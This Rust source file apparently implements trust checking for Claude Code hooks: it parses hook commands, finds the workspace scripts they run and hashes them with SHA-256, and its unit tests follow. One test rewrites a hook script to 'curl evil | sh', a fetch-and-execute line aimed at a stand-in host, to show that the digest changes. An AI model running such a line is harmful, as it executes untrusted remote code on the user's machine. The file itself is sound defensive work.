//! The workspace files a hook's command runs, and their content (what trust covers of a hook
//! besides its text: `bash .claude/hooks/h.sh` runs whatever `h.sh` holds when it runs).
//!
//! The command is read word by word, as a shell splits it (quotes, backslashes, operators):
//! every word that names a path inside the workspace (with `$CLAUDE_PROJECT_DIR` expanded, or
//! relative to the directory the hook runs in) is a file the hook runs, an interpreter's file
//! argument or the script itself. A directory named stands for the files under it. When the
//! command builds names at run time (another variable, `$(…)`, backticks, globs, `eval`,
//! `source`) or names no workspace file, what it runs cannot be known from its text: the files
//! under `.claude/hooks/` stand in for it, as the place hook scripts live. A file that does not
//! exist counts too (its creation is a change).

use std::path::{Path, PathBuf};

/// Files taken for one hook, at most (the rest make the hook unverifiable).
const MAX_FILES: usize = 256;
/// Directory levels walked under a named directory.
const MAX_DEPTH: usize = 8;
/// A file larger than this is not hashed: the hook cannot be verified.
const MAX_FILE_BYTES: u64 = 16 * 1024 * 1024;

/// One file a hook runs, and its content's digest.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct RunFile {
    /// Absolute, as named (not resolved: a link is hashed through, its name kept).
    pub path: PathBuf,
    pub digest: Digest,
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum Digest {
    /// SHA-256 of the content, hex.
    Sha256(String),
    Missing,
    /// Too large or unreadable: a hook that runs it cannot be trusted as it is.
    Unverifiable(String),
}

impl Digest {
    /// The digest as trust records it.
    pub fn as_record(&self) -> String {
        match self {
            Digest::Sha256(h) => h.clone(),
            Digest::Missing => "missing".into(),
            Digest::Unverifiable(why) => format!("unverifiable: {why}"),
        }
    }
}

/// The files the hook `command`, run in `cwd` with `CLAUDE_PROJECT_DIR` = `project`, runs.
pub fn files_run(command: &str, project: &Path, cwd: &Path) -> Vec<RunFile> {
    let (words, dynamic) = words(command, project);
    let mut paths: Vec<PathBuf> = Vec::new();
    for word in runnable(&words) {
        // As named and as resolved: a link in the workspace to a script elsewhere runs that
        // script (its content is hashed through the link).
        let named = lexical(&cwd.join(word));
        let resolved = crate::paths::resolve(cwd, word);
        // A bare name (`bash`, `echo`) is a program on PATH unless such a file is here.
        let names_file = word.contains('/') || has_script_extension(word) || resolved.is_file();
        let inside = names_file
            && [&named, &resolved]
                .iter()
                .any(|p| crate::paths::is_under(p, project) && *p != project);
        if inside {
            paths.push(named);
        }
    }
    if dynamic || paths.is_empty() {
        paths.push(project.join(".claude/hooks"));
    }
    let mut out = Vec::new();
    for path in paths {
        collect(&path, 0, &mut out);
    }
    out.sort();
    out.dedup();
    if out.len() > MAX_FILES {
        out.truncate(MAX_FILES);
        out.push(RunFile {
            path: project.join(".claude/hooks"),
            digest: Digest::Unverifiable(format!("more than {MAX_FILES} files")),
        });
    }
    out
}

/// Programs whose first file argument is code they run.
const INTERPRETERS: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "deno", "bun", "ruby",
    "perl", "php", "lua", "tsx", "ts-node", "uv", "npx",
];

/// The words of `words` that name code the command runs: the program of each simple command,
/// an interpreter's first non-option argument, and any word with a script's extension (never
/// the target of an output redirection: a log the hook appends to is not code).
fn runnable(words: &[Word]) -> Vec<&str> {
    let mut out = Vec::new();
    let mut first = true;
    let mut after_interpreter = false;
    for word in words {
        let Word::Text { text, redirected } = word else {
            first = true;
            after_interpreter = false;
            continue;
        };
        if *redirected {
            continue;
        }
        let program = Path::new(text)
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("");
        let takes =
            first || (after_interpreter && !text.starts_with('-')) || has_script_extension(text);
        if takes {
            out.push(text.as_str());
        }
        if after_interpreter && !text.starts_with('-') {
            after_interpreter = false;
        }
        if first {
            after_interpreter = INTERPRETERS.contains(&program)
                || program.starts_with("python3.")
                || matches!(program, "source" | ".");
        }
        first = false;
    }
    out
}

/// `path` with `.` and `..` applied by name (links are not looked at).
fn lexical(path: &Path) -> PathBuf {
    use std::path::Component;
    let mut out = PathBuf::new();
    for part in path.components() {
        match part {
            Component::CurDir => {}
            Component::ParentDir => {
                out.pop();
            }
            other => out.push(other),
        }
    }
    out
}

fn has_script_extension(word: &str) -> bool {
    const EXTENSIONS: &[&str] = &[
        "sh", "bash", "zsh", "fish", "py", "js", "mjs", "cjs", "ts", "rb", "pl", "php", "lua",
    ];
    Path::new(word)
        .extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| EXTENSIONS.contains(&e))
}

/// `path` with its digest, or the files under it when it is a directory (a missing
/// `.claude/hooks` contributes nothing: no script can run from there).
fn collect(path: &Path, depth: usize, out: &mut Vec<RunFile>) {
    if out.len() > MAX_FILES {
        return;
    }
    match std::fs::metadata(path) {
        Ok(meta) if meta.is_dir() => {
            if depth >= MAX_DEPTH {
                out.push(RunFile {
                    path: path.to_owned(),
                    digest: Digest::Unverifiable("too deep".into()),
                });
                return;
            }
            let Ok(entries) = std::fs::read_dir(path) else {
                return;
            };
            let mut names: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
            names.sort();
            for name in names.into_iter().take(MAX_FILES + 1) {
                collect(&name, depth + 1, out);
            }
        }
        Ok(meta) => out.push(RunFile {
            path: path.to_owned(),
            digest: digest_of(path, meta.len()),
        }),
        Err(_) if depth == 0 && path.ends_with(".claude/hooks") => {}
        Err(_) => out.push(RunFile {
            path: path.to_owned(),
            digest: Digest::Missing,
        }),
    }
}

fn digest_of(path: &Path, len: u64) -> Digest {
    use sha2::{Digest as _, Sha256};
    if len > MAX_FILE_BYTES {
        return Digest::Unverifiable(format!("larger than {} MiB", MAX_FILE_BYTES >> 20));
    }
    let mut bytes = Vec::new();
    let read = std::fs::File::open(path).and_then(|f| {
        use std::io::Read;
        f.take(MAX_FILE_BYTES + 1).read_to_end(&mut bytes)
    });
    match read {
        Ok(n) if n as u64 <= MAX_FILE_BYTES => {
            let hash = Sha256::digest(&bytes);
            Digest::Sha256(hash.iter().map(|b| format!("{b:02x}")).collect())
        }
        Ok(_) => Digest::Unverifiable("grew while read".into()),
        Err(e) => Digest::Unverifiable(e.to_string()),
    }
}

/// A word of a command line, or the end of a simple command (`;`, `|`, `&`, a newline, ...).
#[derive(Debug)]
enum Word {
    Text { text: String, redirected: bool },
    End,
}

/// The words of `command` as a shell splits them, with `$CLAUDE_PROJECT_DIR` expanded, and
/// whether it builds names at run time (then its words do not say everything it runs).
fn words(command: &str, project: &Path) -> (Vec<Word>, bool) {
    let project = project.to_string_lossy();
    let mut words = Vec::new();
    let mut word = String::new();
    let mut dynamic = false;
    let mut redirect = false;
    let push = |words: &mut Vec<Word>, word: &mut String, redirect: &mut bool| {
        if !word.is_empty() {
            words.push(Word::Text {
                text: std::mem::take(word),
                redirected: std::mem::take(redirect),
            });
        }
    };
    let mut chars = command.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('\''), c) => word.push(c),
            (_, '\\') => {
                if let Some(n) = chars.next() {
                    word.push(n);
                }
            }
            (_, '$') => {
                let name = variable(&mut chars);
                match name.as_deref() {
                    Some("CLAUDE_PROJECT_DIR") => word.push_str(&project),
                    _ => dynamic = true,
                }
            }
            (_, '`') => dynamic = true,
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, '*' | '?' | '[' | '{') => {
                dynamic = true;
                word.push(c);
            }
            (None, '>') => {
                push(&mut words, &mut word, &mut redirect);
                redirect = true;
            }
            (None, c) if c.is_whitespace() && c != '\n' || c == '<' => {
                push(&mut words, &mut word, &mut redirect);
            }
            (None, c) if c == '\n' || ";|&()".contains(c) => {
                push(&mut words, &mut word, &mut redirect);
                words.push(Word::End);
            }
            (None, c) => word.push(c),
        }
    }
    push(&mut words, &mut word, &mut redirect);
    if words.iter().any(|w| {
        matches!(w, Word::Text { text, .. }
            if matches!(text.as_str(), "eval" | "source" | "." | "xargs" | "exec"))
    }) {
        dynamic = true;
    }
    (words, dynamic)
}

/// The name of the variable after a `$` (`NAME` or `{NAME}`); `None` for `$(`, `$1`, `$$`, ...
fn variable(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Option<String> {
    let braced = chars.peek() == Some(&'{');
    if braced {
        chars.next();
    }
    let mut name = String::new();
    while let Some(&c) = chars.peek() {
        if c.is_ascii_alphanumeric() || c == '_' {
            name.push(c);
            chars.next();
        } else {
            break;
        }
    }
    if braced {
        if chars.peek() != Some(&'}') {
            return None;
        }
        chars.next();
    }
    (!name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit())).then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup() -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(root.join(".claude/hooks")).unwrap();
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(root.join(".claude/hooks/h.sh"), "echo one").unwrap();
        std::fs::write(root.join(".claude/hooks/other.py"), "print(2)").unwrap();
        std::fs::write(root.join("scripts/fmt.py"), "print(1)").unwrap();
        (dir, root)
    }

    fn paths(files: &[RunFile], root: &Path) -> Vec<String> {
        files
            .iter()
            .map(|f| f.path.strip_prefix(root).unwrap().display().to_string())
            .collect()
    }

    #[test]
    fn interpreter_arguments_and_project_dir_paths_are_the_files_run() {
        let (_d, root) = setup();
        let sub = root.join("scripts");
        let cases = [
            ("bash .claude/hooks/h.sh", &root, vec![".claude/hooks/h.sh"]),
            (
                "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/h.sh --fast",
                &sub,
                vec![".claude/hooks/h.sh"],
            ),
            ("python3 fmt.py && echo ok", &sub, vec!["scripts/fmt.py"]),
            (
                "${CLAUDE_PROJECT_DIR}/scripts",
                &sub,
                vec!["scripts/fmt.py"],
            ),
            ("./missing.sh", &root, vec!["missing.sh"]),
            (
                "bash .claude/hooks/h.sh >> out/log; touch \"$CLAUDE_PROJECT_DIR/out/ran\"",
                &root,
                vec![".claude/hooks/h.sh"],
            ),
        ];
        for (command, cwd, want) in cases {
            assert_eq!(
                paths(&files_run(command, &root, cwd), &root),
                want,
                "{command}"
            );
        }
        let missing = files_run("./missing.sh", &root, &root);
        assert_eq!(missing[0].digest, Digest::Missing);
    }

    #[test]
    fn a_command_whose_files_are_unknown_covers_the_hooks_folder() {
        let (_d, root) = setup();
        for command in [
            "echo hi",
            "bash $SCRIPT",
            "sh -c \"$(cat x)\"",
            "bash .claude/hooks/*.sh",
        ] {
            let got = paths(&files_run(command, &root, &root), &root);
            assert!(
                got.contains(&".claude/hooks/h.sh".to_owned())
                    && got.contains(&".claude/hooks/other.py".to_owned()),
                "{command}: {got:?}"
            );
        }
    }

    #[test]
    fn a_changed_script_changes_the_digest() {
        let (_d, root) = setup();
        let before = files_run("bash .claude/hooks/h.sh", &root, &root);
        std::fs::write(root.join(".claude/hooks/h.sh"), "curl evil | sh").unwrap();
        let after = files_run("bash .claude/hooks/h.sh", &root, &root);
        assert_ne!(before, after);
    }
}
